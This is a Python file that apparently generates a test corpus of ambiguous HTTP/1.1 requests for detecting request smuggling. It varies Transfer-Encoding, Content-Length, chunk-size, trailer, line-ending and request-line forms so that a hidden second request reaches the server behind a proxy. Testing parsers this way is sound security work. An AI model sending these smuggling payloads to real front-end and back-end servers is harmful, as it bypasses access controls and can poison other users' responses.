"""Requests that two parsers could read as one or as two.

Every form holds a second request where one of the two readings puts it. So a second answer is a request that was
smuggled past whatever stands before the server.
"""

from collections.abc import Iterator
from itertools import product

Form = tuple[str, bytes]

CODINGS = [
    *(
        "chunked",
        " chunked",
        "chunked ",
        "\tchunked",
        "chunked\t",
        "\x0bchunked",
        "chunked\x0b",
        "chunked\x00",
        "CHUNKED",
    ),
    *(
        "xchunked",
        "chunkedx",
        "chunke",
        '"chunked"',
        "'chunked'",
        "chunked;q=1",
        "chunked, identity",
        "identity, chunked",
    ),
    *(
        "chunked, chunked",
        "chunked,",
        ",chunked",
        "gzip, chunked",
        "gzip",
        "identity",
        "",
        "chunked\r\n x",
        "\r\n chunked",
    ),
    *("chunked, gzip", "chünked", "\xa0chunked", "chunked\r", "cow, chunked", "deflate,chunked"),
]
NAMES = [
    *("Transfer-Encoding ", "Transfer-Encoding\t", " Transfer-Encoding", "\tTransfer-Encoding", "Transfer_Encoding"),
    *(
        "Transfer-Encoding\x00",
        "Transfer\x00-Encoding",
        "Transfer-Encoding\x0b",
        "X: y\nTransfer-Encoding",
        "Transfer\r-Encoding",
    ),
    *(
        "X: y\rTransfer-Encoding",
        "transfer-encoding",
        "TRANSFER-ENCODING",
        "\x00Transfer-Encoding",
        "Transfer Encoding",
    ),
    *("Transfer-Encoding:", "Foo: bar\r\n\tTransfer-Encoding", "Transfer-Encoding\xa0"),
]
LENGTHS = [
    *(
        "+{0}",
        "-{0}",
        "{0},{0}",
        "{0}, {0}",
        "0{0}",
        "{0}.0",
        "{0}e0",
        "0x{1:x}",
        " {0}",
        "{0} ",
        "{0};",
        "{0} {0}",
        "{0}\x00",
    ),
    *(
        "\x0b{0}",
        "{0}\x0b",
        "",
        " ",
        "a",
        "{0}a",
        "0, {0}",
        "{0}, 0",
        "99999999999999999999",
        "18446744073709551616",
        "-1",
    ),
    *("4294967296", "{0}\t", "\t{0}", '"{0}"', "{0}_0", "0b1", "\xb2", "{0}\r\n 0", "\r\n {0}"),
]
SIZES = [
    *(
        "{0:X}",
        "0{0:x}",
        "0x{0:x}",
        "+{0:x}",
        "-{0:x}",
        " {0:x}",
        "{0:x} ",
        "\t{0:x}",
        "{0:x}\t",
        "{0:x};",
        "{0:x};a=b",
        "{0:x} ;a",
    ),
    *(
        "{0:x};\n",
        "{0:x}\n",
        "{0:x}\r",
        '{0:x};a="\r\n"',
        "{0:x}\x00",
        "{0:x}g",
        "g",
        "",
        "00000000000000000{0:x}",
        "1{0:016x}",
    ),
    *("ffffffffffffffff", "fffffffffffffffff", "{0:x},", "{0:x}_", "0_{0:x}", "{0:x};\r", "\r\n{0:x}", "{0:x}\x0b"),
]
TRAILERS = [
    *(
        "Content-Length: 99",
        "Transfer-Encoding: chunked",
        "Host: y",
        "X : y",
        " X: y",
        "X",
        "X: y\nZ: z",
        "\x00: y",
        ": y",
    ),
    *("X: y\r\n folded", "Content-Length: 99\r\nTransfer-Encoding: chunked"),
]
ENDS = ["\n", "\r", "\n\r", "\r\r\n", "\r\n\n", "\x00\r\n", "\x0b\r\n", " \r\n", "\r \n"]
LINES = [
    *(
        "POST  / HTTP/1.1",
        "POST /\tHTTP/1.1",
        " POST / HTTP/1.1",
        "POST / HTTP/1.1 ",
        "POST /",
        "POST / HTTP/1.2",
        "POST / HTTP/2.0",
    ),
    *(
        "POST / HTTP/01.1",
        "POST / http/1.1",
        "POST / HTTP/1.10",
        "POST / HTTP/1,1",
        "POST / HTTP /1.1",
        "POST\x00 / HTTP/1.1",
    ),
    *(
        "PO ST / HTTP/1.1",
        "POST / / HTTP/1.1",
        "POST /\x00 HTTP/1.1",
        "post / HTTP/1.1",
        "POST / HTTP/1.1\r\nX",
        "P\xd6ST / HTTP/1.1",
    ),
    *(
        "CONNECT x:80 HTTP/1.1",
        "POST http://y/ HTTP/1.1",
        "POST http:/// HTTP/1.1",
        "POST * HTTP/1.1",
        "\x16\x03\x01",
        "POST / HTTP/0.9",
    ),
]
HEADERS = [
    *("Host: x\r\nHost: x", "Host: x\r\nHost: y", "Host: x, y\r\nHost:", "X: y\r\nHost : x", "", "Host: x\r\n: empty"),
    *(
        "Host: x\r\nNoColon",
        "Host: x\r\n folded: y",
        "Host: x\r\nX: a\x00b",
        "Host: x\r\nX: a\nb",
        "Host: x\r\nX: a\rb",
    ),
    *(
        "Host: x\r\nExpect: 200-ok",
        "Host: x\r\nUpgrade: h2c\r\nConnection: upgrade, http2-settings\r\nHTTP2-Settings: AAMAAABk",
    ),
    *(
        "Host: x\r\nUpgrade: websocket\r\nConnection: upgrade",
        "Host: x\r\nConnection: content-length",
        "Host: x\r\nConnection: close, host",
    ),
]


def forms(host: str = "x") -> Iterator[Form]:
    """All of them, by name. `host` is the Host of the first and of the second request."""
    return _Corpus(host).forms()


def two(host: str = "x") -> bytes:
    """Two requests that are two to everybody."""
    corpus = _Corpus(host)
    return corpus.posted(f"Content-Length: {len(corpus.second)}") + corpus.second + corpus.second


class _Corpus:
    def __init__(self, host: str) -> None:
        self.host = f"Host: {host}"
        self.second = f"GET /v2/health/live HTTP/1.1\r\n{self.host}\r\n\r\n".encode()

    def posted(self, *headers: str, line: str = "POST /v2/models/hello/infer HTTP/1.1", host: str = "Host: x") -> bytes:
        own = [host.replace("Host: x", self.host)] if host else []
        return "\r\n".join([line, *own, *headers, "", ""]).encode("latin-1")

    def chunked(self, size: str, trailer: str = "") -> bytes:
        """`size` is how that of the second request is written; who takes it for 0 meets the second request."""
        head = size.format(len(self.second)).encode("latin-1")
        return head + b"\r\n" + self.second + b"\r\n0\r\n" + trailer.encode() + b"\r\n"

    def forms(self) -> Iterator[Form]:
        long, short = f"Content-Length: {5 + len(self.second)}", "Content-Length: 5"
        chunk = f"{len(self.second):x}\r\n"
        for coding in CODINGS:
            # By length the second request is in the body, by chunks it comes after it; and the other way round.
            yield f"TE {coding!r} + CL", self.posted(f"Transfer-Encoding:{coding}", long) + b"0\r\n\r\n" + self.second
            yield (
                f"CL + TE {coding!r}",
                self.posted(short, f"Transfer-Encoding: {coding}") + chunk.encode() + self.second + b"\r\n0\r\n\r\n",
            )
            yield f"TE {coding!r}", self.posted(f"Transfer-Encoding: {coding}") + self.chunked("{0:x}")
        for name, order in product(NAMES, (1, -1)):
            yield f"{name!r} {order}", self.posted(*[f"{name}: chunked", long][::order]) + b"0\r\n\r\n" + self.second
        body = b"0\r\n\r\n" + self.second
        for length in LENGTHS:
            text = length.format(len(body), len(body))
            yield f"CL {length!r}", self.posted(f"Content-Length:{text}") + body
            yield f"CL {length!r} before", self.posted(f"Content-Length: {text}", f"Content-Length: {len(body)}") + body
            yield f"CL {length!r} after", self.posted(f"Content-Length: {len(body)}", f"Content-Length: {text}") + body
        for size in SIZES:
            yield f"chunk {size!r}", self.posted("Transfer-Encoding: chunked") + self.chunked(size)
        for trailer in TRAILERS:
            yield (
                f"trailer {trailer!r}",
                self.posted("Transfer-Encoding: chunked") + self.chunked("{0:x}", f"{trailer}\r\n"),
            )
        for end in ENDS:
            yield f"end {end!r}", self.posted(long).replace(b"\r\n", end.encode(), 2) + b"0\r\n\r\n" + self.second
            yield f"end of head {end!r}", self.posted(long)[:-2] + end.encode() + b"0\r\n\r\n" + self.second
        for line in LINES:
            yield f"line {line!r}", self.posted(long, line=line) + b"0\r\n\r\n" + self.second
        for host in HEADERS:
            yield f"headers {host!r}", self.posted(long, host=host) + b"0\r\n\r\n" + self.second
